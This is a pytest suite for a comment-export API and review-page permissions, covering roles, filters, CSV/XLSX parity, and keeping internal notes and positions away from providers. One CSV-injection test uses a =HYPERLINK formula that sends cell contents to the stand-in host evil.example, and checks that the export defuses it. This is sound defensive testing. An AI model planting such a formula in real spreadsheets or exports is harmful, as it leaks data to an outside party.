"""The reviewers' export over the API (GET /api/v1/comments/export) and who may use the review pages (issue 6).

The export: who may fetch it with which key, CSV and XLSX holding the very same rows, the filters of
``GET /api/v1/comments``, which comments are rows (top-level participant feedback only; replies in the thread
column), internal notes and positions that never reach providers, and CSV injection. Then a permission table
of every review route for the public, a provider, a municipality and SDFL, with nothing changed by a refused
POST.

Every test arranges its own data in the rolled-back ``db`` session on top of the demo data: proposal
"product-structure" (public) and "contract-terms" (not public) are published as version 1.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, col, func, select

from app.kit import clock
from app.kit.markdown import render_markdown
from app.models import (
    AgendaItem,
    AgendaItemComment,
    AuditEvent,
    Comment,
    Dialogue,
    DialogueSession,
    InternalNote,
    Municipality,
    Position,
    Section,
    SessionStatus,
    User,
    Visibility,
)
from tests import factories
from tests.helpers import (
    assert_problem,
    csrf_from,
    error_fields,
    find_proposal,
    find_provider,
    find_section,
    find_user,
    login,
    publish_next_version,
)


@pytest.fixture(autouse=True)
def world(db) -> dict:
    """The demo's dialogue, providers, accounts, proposals and comments, made by factories. These tests are about
    the release, not its sign-off (tests/signoff/test_replies_signoff.py): no municipality's approval is needed."""
    made = factories.demo_world(db)
    for trajectory in db.exec(select(Dialogue)).all():
        trajectory.signoff_chosen = True  # and no municipality chosen
        db.add(trajectory)
    db.commit()
    return made


API = "/api/v1"
EXPORT = f"{API}/comments/export"
PROBLEM = "application/problem+json"
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PUBLIC_SLUG = "product-structure"
PRIVATE_SLUG = "contract-terms"
THREAD = "Draad (antwoorden van deelnemers)"


# --- helpers -------------------------------------------------------------------------------------


def add_comment(db: Session, target: Section, author: User, body: str, **extra: Any) -> Comment:
    """A comment row as the app writes it (committed, i.e. a savepoint of the test's transaction)."""
    comment = Comment(
        section_id=target.id,
        author_id=author.id,
        provider_id=extra.pop("provider_id", author.provider_id),
        kind=extra.pop("kind", "zorg"),
        body=body,
        body_html=render_markdown(body, heading_offset=3),
        created_at=extra.pop("created_at", clock.now()),
        **extra,
    )
    db.add(comment)
    db.commit()
    return comment


def read_csv(response) -> list[list[str]]:
    """The CSV export's rows (header first): ``;``-separated UTF-8 with a byte order mark."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(response) -> list[list[str]]:
    """The XLSX export's rows (header first), every cell as text ("" for an empty cell)."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == 1
    rows = []
    for row in workbook.worksheets[0].iter_rows(values_only=True):
        assert all(value is None or isinstance(value, str) for value in row), row
        rows.append(["" if value is None else value for value in row])
    return rows


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def export_ids(response) -> list[int]:
    """The ``Nummer`` column (the comment id, the first column) of a CSV export, in order."""
    rows = read_csv(response)
    assert rows[0][0] == "Nummer"
    ids = [int(row[0]) for row in rows[1:]]
    assert response.headers["x-rows"] == str(len(ids))
    return ids


@pytest.fixture
def feedback_set(db: Session) -> dict[str, Any]:
    """Comments at known moments (one minute apart, after all demo comments), on both proposals and two versions:

    a provider    product-structure v1 productoverzicht  zorg       (+ SDFL's released official reply h)
    b other-prov  product-structure v1 reikwijdte        steun      status overgenomen
    c municipal.  product-structure v1 productoverzicht  vraag
    d provider    contract-terms    v1 indexering        suggestie
    -- version 2 of product-structure is published --
    e provider    product-structure v2 productoverzicht  steun
    f admin       product-structure v2 reikwijdte        zorg       (not official: SDFL as a participant)
    g other-prov  product-structure v2 reikwijdte        reply to f (no kind)
    h admin       official reply to a, released
    i other-prov  product-structure v2 reikwijdte        zorg       withdrawn
    j admin       product-structure v2 reikwijdte        zorg       visibility internal
    k provider    product-structure v1 productoverzicht  reply to a (kind zorg)

    Rows of the export: a b c d e f. Not rows: g and k (replies), h (official), i (withdrawn), j (internal).
    """
    start = (clock.now() + timedelta(minutes=5)).replace(microsecond=0)
    moments = iter(start + timedelta(minutes=i) for i in range(20))
    re_care, triade = find_user(db, "re-care@example.org"), find_user(db, "triade-vitree@example.org")
    almere, admin = find_user(db, "almere@example.org"), find_user(db, "sdfl@example.org")
    made: dict[str, Any] = {"start": start}

    def make(name: str, author: User, slug: str, key: str, number: int = 1, **extra: Any) -> Comment:
        at_ = next(moments)
        comment = add_comment(
            db, find_section(db, slug, key, number), author, f"Reactie {name}.", created_at=at_, **extra
        )
        made[name], made[f"{name}_at"] = comment.id, at_
        return comment

    a = make("a", re_care, PUBLIC_SLUG, "productoverzicht", kind="zorg")
    make("b", triade, PUBLIC_SLUG, "reikwijdte", kind="steun", status="overgenomen", published_status="overgenomen")
    make("c", almere, PUBLIC_SLUG, "productoverzicht", kind="vraag")
    make("d", re_care, PRIVATE_SLUG, "indexering", kind="suggestie", suggested_text="Indexering volgt de OVA.")
    publish_next_version(db)
    make("e", re_care, PUBLIC_SLUG, "productoverzicht", 2, kind="steun")
    f = make("f", admin, PUBLIC_SLUG, "reikwijdte", 2, kind="zorg")
    make("g", triade, PUBLIC_SLUG, "reikwijdte", 2, kind=None, parent_id=f.id)
    released = clock.now() - timedelta(minutes=1)
    make("h", admin, PUBLIC_SLUG, "productoverzicht", kind=None, parent_id=a.id, official=True, release_at=released)
    make("i", triade, PUBLIC_SLUG, "reikwijdte", 2, kind="zorg", deleted_at=start)
    make("j", admin, PUBLIC_SLUG, "reikwijdte", 2, kind="zorg", visibility=Visibility.internal)
    make("k", re_care, PUBLIC_SLUG, "productoverzicht", kind="zorg", parent_id=a.id)
    made["ids"] = {name: made[name] for name in "abcdefghijk"}
    return made


# --- who may export ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "role,status",
    [
        ("public", 401),
        ("provider", 403),
        ("provider-read", 403),
        ("other-provider", 403),
        ("municipality", 200),
        ("municipality-read", 200),
        ("admin", 200),
        ("admin-read", 200),
    ],
)
def test_export_is_for_reviewers_with_any_scope(client, auth, role, status, fmt):
    response = client.get(EXPORT, headers=auth(role), params={"format": fmt})
    if status != 200:
        assert_problem(response, status)
        if status == 401:
            assert response.headers["www-authenticate"].startswith("Bearer")
        return
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == (CSV_TYPE if fmt == "csv" else XLSX_TYPE)
    assert response.headers["content-disposition"].startswith('attachment; filename="reacties-')
    assert response.headers["content-disposition"].endswith(f'.{fmt}"')
    assert response.headers["cache-control"] == "no-store"
    rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
    assert rows[0][0] == "Nummer"
    assert THREAD in rows[0]
    assert int(response.headers["x-rows"]) == len(rows) - 1 > 0  # the demo's comments


def test_csv_is_the_default_format(client, auth):
    response = client.get(EXPORT, headers=auth("municipality"))
    assert response.headers["content-type"] == CSV_TYPE
    assert read_csv(response)[0][0] == "Nummer"


@pytest.mark.parametrize(
    "params,field",
    [
        ({"format": "pdf"}, "format"),
        ({"format": "CSV"}, "format"),
        ({"kind": "xyz"}, "kind"),
        ({"status": "xyz"}, "status"),
        ({"proposal_id": 0}, "proposal_id"),
        ({"proposal_id": "abc"}, "proposal_id"),
        ({"version": 0}, "version"),
        ({"provider_id": 0}, "provider_id"),
        ({"section_key": "x" * 101}, "section_key"),
        ({"since": "2025-01-01T10:00:00"}, "since"),
        ({"since": "gisteren"}, "since"),
        # Found by the API fuzzer: moments without a date in UTC (a 500 on converting them), NUL (a 500 on
        # PostgreSQL).
        ({"since": "0001-01-01T00:00:00+14:00"}, "since"),
        ({"since": "9999-12-31T23:59:59-14:00"}, "since"),
        ({"section_key": "a\x00b"}, "section_key"),
    ],
)
@pytest.mark.parametrize("role", ["municipality", "admin"])
def test_invalid_export_parameters_are_422(client, auth, role, params, field):
    response = client.get(EXPORT, headers=auth(role), params=params)
    assert_problem(response, 422)
    assert field in error_fields(response)


# --- CSV and XLSX hold the same rows --------------------------------------------------------------


def same_rows(client: TestClient, headers: dict[str, str], params: dict[str, Any]) -> list[dict[str, str]]:
    csv_rows = read_csv(client.get(EXPORT, headers=headers, params={**params, "format": "csv"}))
    xlsx_rows = read_xlsx(client.get(EXPORT, headers=headers, params={**params, "format": "xlsx"}))
    assert xlsx_rows[0] == csv_rows[0]  # the same header row
    assert xlsx_rows == csv_rows  # the same cells, in the same order
    return as_dicts(csv_rows)


@pytest.mark.parametrize("role", ["municipality", "admin"])
def test_xlsx_holds_the_same_rows_as_the_csv(client, db, auth, feedback_set, role):
    n = feedback_set["ids"]
    headers = auth(role)
    # Notes, positions and a thread fill the columns that hold more than one line.
    almere = find_user(db, "almere@example.org")
    municipality = db.exec(select(Municipality).where(Municipality.name == "Almere")).one()
    db.add(InternalNote(comment_id=n["a"], author_id=almere.id, body="Eerste regel.\n\nTweede **regel**."))
    db.add(Position(comment_id=n["a"], municipality_id=municipality.id, author_id=almere.id, stance="eens"))
    db.commit()

    everything = same_rows(client, headers, {})
    assert (
        len(everything)
        == db.exec(
            select(func.count())
            .select_from(Comment)
            .where(
                col(Comment.parent_id).is_(None),
                col(Comment.official).is_(False),
                Comment.visibility == Visibility.participants,
                col(Comment.deleted_at).is_(None),
            )
        ).one()
    )
    mine = [int(r["Nummer"]) for r in everything if int(r["Nummer"]) in n.values()]
    assert mine == [n[x] for x in "abcdef"]  # oldest first

    zorg = same_rows(client, headers, {"kind": "zorg"})
    assert zorg and {r["Soort"] for r in zorg} == {"Zorg"}
    assert {n["a"], n["f"]} <= {int(r["Nummer"]) for r in zorg}

    pid = find_proposal(db, PUBLIC_SLUG).id
    v1 = same_rows(client, headers, {"proposal_id": pid, "version": 1, "since": feedback_set["start"].isoformat()})
    assert [int(r["Nummer"]) for r in v1] == [n["a"], n["b"], n["c"]]
    first = v1[0]
    assert first["Versie"] == "1"
    assert first["Onderdeel (sleutel)"] == "productoverzicht"
    assert first["Reactie"] == "Reactie a."
    assert first["Aanbieder"] == find_provider(db, "re-care").name
    assert "Reactie k." in first[THREAD]
    assert "Reactie h." in first["Officieel antwoord SDFL"]
    assert "Tweede regel." in first["Interne notities"]
    assert first["Standpunten gemeenten"] == "Almere: Eens"

    v2 = same_rows(client, headers, {"proposal_id": pid, "version": 2, "kind": "zorg"})
    assert [int(r["Nummer"]) for r in v2] == [n["f"]]


# --- the filters -----------------------------------------------------------------------------------


def test_each_filter_narrows_the_export(client, db, auth, feedback_set):
    n = feedback_set["ids"]
    since = feedback_set["start"].isoformat()
    ps, ct = find_proposal(db, PUBLIC_SLUG).id, find_proposal(db, PRIVATE_SLUG).id
    re_care, triade = find_provider(db, "re-care").id, find_provider(db, "triade-vitree").id

    def exported(**params: Any) -> list[int]:
        params = {"since": since, **params}
        return export_ids(client.get(EXPORT, headers=auth("municipality"), params=params))

    def expect(names: str) -> list[int]:
        return [n[x] for x in names]

    assert exported() == expect("abcdef")  # oldest first; no replies, official, withdrawn or internal ones
    assert exported(proposal_id=ps) == expect("abcef")
    assert exported(proposal_id=ct) == expect("d")
    assert exported(proposal_id=ps, version=1) == expect("abc")
    assert exported(proposal_id=ps, version=2) == expect("ef")
    assert exported(version=1) == expect("abcd")
    assert exported(section_key="productoverzicht") == expect("ace")
    assert exported(section_key="reikwijdte") == expect("bf")
    assert exported(section_key="reikwijdte", version=2) == expect("f")
    assert exported(section_key="bestaat-niet") == []
    assert exported(provider_id=re_care) == expect("ade")
    assert exported(provider_id=triade) == expect("b")  # g is a reply, i is withdrawn
    assert exported(kind="steun") == expect("be")
    assert exported(kind="zorg") == expect("af")
    assert exported(kind="vraag") == expect("c")
    assert exported(kind="suggestie") == expect("d")
    assert exported(status="overgenomen") == expect("b")
    assert exported(status="nieuw") == expect("acdef")
    assert exported(status="niet_overgenomen") == []
    assert exported(proposal_id=ps, kind="zorg", provider_id=re_care) == expect("a")
    # since is inclusive, and the same moment may be written in any offset.
    assert exported(since=feedback_set["e_at"].isoformat()) == expect("ef")
    e_at_z = feedback_set["e_at"].astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert exported(since=e_at_z) == expect("ef")
    assert exported(since=(feedback_set["k_at"] + timedelta(seconds=1)).isoformat()) == []


FILTERS = [
    {},
    {"proposal_id": "ps"},
    {"proposal_id": "ct"},
    {"proposal_id": "ps", "version": 2},
    {"version": 1},
    {"section_key": "productoverzicht"},
    {"section_key": "reikwijdte"},
    {"provider_id": "re-care"},
    {"provider_id": "triade-vitree"},
    {"kind": "zorg"},
    {"kind": "steun"},
    {"status": "overgenomen"},
    {"status": "nieuw"},
    {"since": "e"},
]


@pytest.mark.parametrize("filters", FILTERS, ids=lambda f: "-".join(f"{k}={v}" for k, v in f.items()) or "none")
def test_export_rows_are_the_top_level_feedback_of_the_comment_list(client, db, auth, feedback_set, filters):
    """For every filter (over all comments, demo data included) the export holds exactly the comments the
    list ``GET /api/v1/comments`` gives for it, minus replies, official replies and withdrawn comments."""
    params: dict[str, Any] = dict(filters)
    if params.get("proposal_id") == "ps":
        params["proposal_id"] = find_proposal(db, PUBLIC_SLUG).id
    elif params.get("proposal_id") == "ct":
        params["proposal_id"] = find_proposal(db, PRIVATE_SLUG).id
    if "provider_id" in params:
        params["provider_id"] = find_provider(db, params["provider_id"]).id
    if "since" in params:
        params["since"] = feedback_set["e_at"].isoformat()
    for role in ("municipality", "admin"):
        listing = client.get(f"{API}/comments", headers=auth(role), params={**params, "page_size": 200}).json()
        assert listing["total"] == len(listing["items"])
        expected = [
            item["id"]
            for item in listing["items"]
            if item["parent_id"] is None and not item["official"] and item["withdrawn_at"] is None
        ]
        assert expected, "every filter here matches some feedback"
        assert export_ids(client.get(EXPORT, headers=auth(role), params=params)) == expected


def test_replies_are_in_the_thread_column_not_rows(client, db, auth, feedback_set):
    n = feedback_set["ids"]
    rows = same_rows(client, auth("admin"), {"since": feedback_set["start"].isoformat()})
    by_id = {int(r["Nummer"]): r for r in rows}
    assert set(by_id) == {n[x] for x in "abcdef"}
    # g (a provider's reply to f) and k (a reply to a) are in the thread of their parent, with who wrote them.
    triade, re_care = find_user(db, "triade-vitree@example.org"), find_user(db, "re-care@example.org")
    assert by_id[n["f"]][THREAD] == f"{triade.name} ({find_provider(db, 'triade-vitree').name}): Reactie g."
    assert by_id[n["a"]][THREAD] == f"{re_care.name} ({find_provider(db, 're-care').name}): Reactie k."
    # h, SDFL's official reply, is in its own column and never in the thread.
    assert by_id[n["a"]]["Officieel antwoord SDFL"] == "Reactie h."
    assert by_id[n["a"]]["Antwoord vrijgegeven"] != ""
    assert all("Reactie h." not in r[THREAD] for r in rows)
    assert all(r[THREAD] == "" for i, r in by_id.items() if i not in (n["a"], n["f"]))
    # Withdrawn (i) and internal (j) comments are nowhere.
    flat = "\n".join(";".join(r.values()) for r in rows)
    assert "Reactie i." not in flat and "Reactie j." not in flat


def test_demo_replies_are_in_their_parents_thread(client, db, auth):
    """The demo data's replies to other providers' comments are not rows, but in the thread column."""
    replies = db.exec(select(Comment).where(col(Comment.parent_id).is_not(None))).all()
    assert replies
    rows = {int(r["Nummer"]): r for r in same_rows(client, auth("municipality"), {})}
    for reply in replies:
        assert reply.id not in rows
        assert reply.body in rows[reply.parent_id][THREAD]


def test_a_withdrawn_comment_leaves_the_export_and_its_replies_with_it(client, db, auth, feedback_set):
    n = feedback_set["ids"]
    since = {"since": feedback_set["start"].isoformat()}
    a = db.get(Comment, n["a"])
    a.deleted_at = clock.now()
    db.add(a)
    db.commit()
    assert export_ids(client.get(EXPORT, headers=auth("admin"), params=since)) == [n[x] for x in "bcdef"]


# --- internal notes and positions ----------------------------------------------------------------

NOTE = "Intern: wethouder wil dit eerst zelf bespreken (xq7)."
POSITION_NOTE = "Almere ziet hier juist meer wachttijd (zp4)."


@pytest.fixture
def annotated(db: Session, feedback_set: dict[str, Any]) -> int:
    """Comment a with an internal note of SDFL and Almere's position "oneens" with a note."""
    cid = feedback_set["ids"]["a"]
    almere = find_user(db, "almere@example.org")
    municipality = db.exec(select(Municipality).where(Municipality.name == "Almere")).one()
    db.add(InternalNote(comment_id=cid, author_id=find_user(db, "sdfl@example.org").id, body=NOTE))
    db.add(
        Position(
            comment_id=cid, municipality_id=municipality.id, author_id=almere.id, stance="oneens", note=POSITION_NOTE
        )
    )
    db.commit()
    return cid


@pytest.mark.parametrize("role", ["municipality", "municipality-read", "admin", "admin-read"])
def test_reviewers_export_internal_notes_and_positions(client, db, auth, annotated, role):
    rows = {int(r["Nummer"]): r for r in same_rows(client, auth(role), {})}
    row = rows[annotated]
    assert row["Interne notities"] == f"{find_user(db, 'sdfl@example.org').name} (SDFL): {NOTE}"
    assert row["Standpunten gemeenten"] == f"Almere: Oneens - {POSITION_NOTE}"
    # Nothing of it leaks into another row.
    assert all(NOTE not in r["Interne notities"] for i, r in rows.items() if i != annotated)
    assert all("Almere" not in r["Standpunten gemeenten"] for i, r in rows.items() if i != annotated)


def test_notes_are_exported_as_the_text_they_show(client, db, auth, feedback_set):
    cid = feedback_set["ids"]["a"]
    admin = find_user(db, "sdfl@example.org")
    db.add(InternalNote(comment_id=cid, author_id=admin.id, body="Schrijf `&lt;` en&nbsp;zo."))
    db.commit()
    rows = {int(r["Nummer"]): r for r in same_rows(client, auth("admin"), {})}
    assert rows[cid]["Interne notities"] == f"{admin.name} (SDFL): Schrijf &lt; en\xa0zo."


@pytest.mark.parametrize("role", ["provider", "provider-read", "other-provider"])
def test_providers_never_see_notes_or_positions(client, db, auth, annotated, role):
    headers = auth(role)
    for fmt in ("csv", "xlsx"):
        response = client.get(EXPORT, headers=headers, params={"format": fmt})
        assert_problem(response, 403)
        assert NOTE not in response.text and POSITION_NOTE not in response.text

    pid = find_proposal(db, PUBLIC_SLUG).id
    listing = client.get(f"{API}/comments", headers=headers, params={"proposal_id": pid, "page_size": 200})
    assert listing.status_code == 200, listing.text
    assert annotated in [item["id"] for item in listing.json()["items"]]
    one = client.get(f"{API}/comments/{annotated}", headers=headers)
    assert one.status_code == 200, one.text
    for response in (listing, one):
        for secret in (NOTE, POSITION_NOTE, "xq7", "zp4"):
            assert secret not in response.text


# --- CSV injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body", ['=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")', "+31 6 1234", "-2+3", "@SUM(A1:A2)"]
)
def test_formulas_are_kept_as_text(client, db, auth, body):
    comment = add_comment(
        db, find_section(db, PUBLIC_SLUG, "productoverzicht"), find_user(db, "re-care@example.org"), body
    )
    params = {"since": comment.created_at.isoformat()}
    csv_rows = as_dicts(read_csv(client.get(EXPORT, headers=auth("admin"), params={**params, "format": "csv"})))
    assert [r["Nummer"] for r in csv_rows] == [str(comment.id)]
    assert csv_rows[0]["Reactie"] == "'" + body

    response = client.get(EXPORT, headers=auth("admin"), params={**params, "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    column = [c.value for c in sheet[1]].index("Reactie") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.value == "'" + body


# --- the review pages: who may do what -------------------------------------------------------------

EMAILS = {
    "provider": "re-care@example.org",
    "municipality": "almere@example.org",
    "admin": "sdfl@example.org",
}

GETS = [
    "/review",
    "/review/comments/{id}",
    "/review/overview",
    "/review/report",
    "/review/report.pdf",
    "/review/export?format=csv",
    "/my/comments",
]
POSTS = ["triage", "notes", "position", "agenda", "bulk", "release"]

# Expected status per role and route (after sign-in; the public is sent to the sign-in page).
EXPECTED: dict[str, dict[str, int]] = {
    "public": {**dict.fromkeys(GETS, 303), **dict.fromkeys(POSTS, 303)},
    "provider": {**dict.fromkeys(GETS, 403), "/my/comments": 200, **dict.fromkeys(POSTS, 403)},
    "municipality": {
        **dict.fromkeys(GETS, 200),
        **dict.fromkeys(POSTS, 403),
        "notes": 303,
        "position": 303,
    },
    "admin": {**dict.fromkeys(GETS, 200), **dict.fromkeys(POSTS, 303), "position": 403},
}
CONTENT_TYPES = {"/review/report.pdf": "application/pdf", "/review/export?format=csv": CSV_TYPE}


def sign_in(client: TestClient, role: str) -> None:
    if role != "public":
        assert login(client, EMAILS[role]).status_code == 303


@pytest.fixture
def target(db: Session) -> dict[str, Any]:
    """A fresh comment of Re-Care with a drafted (unreleased) official reply, so that there is something to
    release; and a planned demo session to put it on the agenda of."""
    comment = add_comment(
        db, find_section(db, PUBLIC_SLUG, "reikwijdte"), find_user(db, "re-care@example.org"), "Doelwit."
    )
    reply = add_comment(
        db,
        find_section(db, PUBLIC_SLUG, "reikwijdte"),
        find_user(db, "sdfl@example.org"),
        "Concept van SDFL.",
        kind=None,
        provider_id=None,
        parent_id=comment.id,
        official=True,
    )
    planned = db.exec(
        select(DialogueSession).where(DialogueSession.status == SessionStatus.planned).order_by(DialogueSession.number)
    ).first()
    assert planned is not None
    return {"id": comment.id, "reply": reply.id, "session": planned.id}


def state(db: Session, t: dict[str, Any]) -> dict[str, Any]:
    """Everything a review POST could change about the target comment."""
    db.expire_all()
    comment, reply = db.get(Comment, t["id"]), db.get(Comment, t["reply"])

    def count(model, *where) -> int:
        return db.exec(select(func.count()).select_from(model).where(*where)).one()

    return {
        "status": comment.status,
        "published_status": comment.published_status,
        "status_release_at": comment.status_release_at,
        "reply_release_at": reply.release_at,
        "reply_body": reply.body,
        "notes": count(InternalNote, InternalNote.comment_id == t["id"]),
        "positions": count(Position, Position.comment_id == t["id"]),
        "agenda_links": count(AgendaItemComment, AgendaItemComment.comment_id == t["id"]),
        "agenda_items": count(AgendaItem),
        "audit_events": count(AuditEvent),
    }


def form(route: str, t: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    cid = t["id"]
    return {
        "triage": (f"/review/comments/{cid}/triage", {"status": "in_behandeling"}),
        "notes": (f"/review/comments/{cid}/notes", {"note": "Een notitie bij het doelwit."}),
        "position": (f"/review/comments/{cid}/position", {"stance": "eens"}),
        "agenda": (f"/review/comments/{cid}/agenda", {"session_id": str(t["session"]), "title": "Doelwit bespreken"}),
        "bulk": ("/review/bulk", {"ids": [str(cid)], "action": "status", "status": "in_behandeling"}),
        "release": ("/review/release", {}),
    }[route]


def changed(before: dict[str, Any], after: dict[str, Any]) -> set[str]:
    return {key for key in before if key != "audit_events" and before[key] != after[key]}


# What an allowed POST changes about the target.
EFFECTS = {
    "triage": {"status"},
    "notes": {"notes"},
    "position": {"positions"},
    "agenda": {"status", "agenda_links", "agenda_items"},
    "bulk": {"status"},
    "release": {"reply_release_at"},
}


def assert_sent_to_sign_in(response, path: str) -> None:
    assert response.status_code == 303
    location = urlsplit(response.headers["location"])
    assert location.path == "/login"
    assert parse_qs(location.query) == {"next": [path]}


@pytest.mark.parametrize("route", GETS)
@pytest.mark.parametrize("role", list(EXPECTED))
def test_review_pages_per_role(client, db, target, role, route):
    sign_in(client, role)
    path = route.format(id=target["id"])
    response = client.get(path, follow_redirects=False)
    expected = EXPECTED[role][route]
    assert response.status_code == expected, response.text[:500]
    if expected == 303:
        assert_sent_to_sign_in(response, path)
    elif expected == 403:
        assert "geen toegang" in response.text
    elif route in CONTENT_TYPES:
        assert response.headers["content-type"] == CONTENT_TYPES[route]
    else:
        assert response.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("route", POSTS)
@pytest.mark.parametrize("role", list(EXPECTED))
def test_review_actions_per_role(client, db, target, role, route):
    sign_in(client, role)
    token = csrf_from(client.get("/login" if role == "public" else "/").text)
    path, data = form(route, target)
    before = state(db, target)
    response = client.post(path, data={**data, "csrf_token": token}, follow_redirects=False)
    expected = EXPECTED[role][route]
    assert response.status_code == expected, response.text[:500]
    after = state(db, target)
    if expected == 303 and role == "public":
        assert_sent_to_sign_in(response, path)
    if expected == 303 and role != "public":
        assert not response.headers["location"].startswith("/login")
        assert changed(before, after) == EFFECTS[route]
        assert after["audit_events"] > before["audit_events"]
    else:
        if expected == 403:
            assert "geen toegang" in response.text
        assert after == before  # nothing changed, not even the audit log
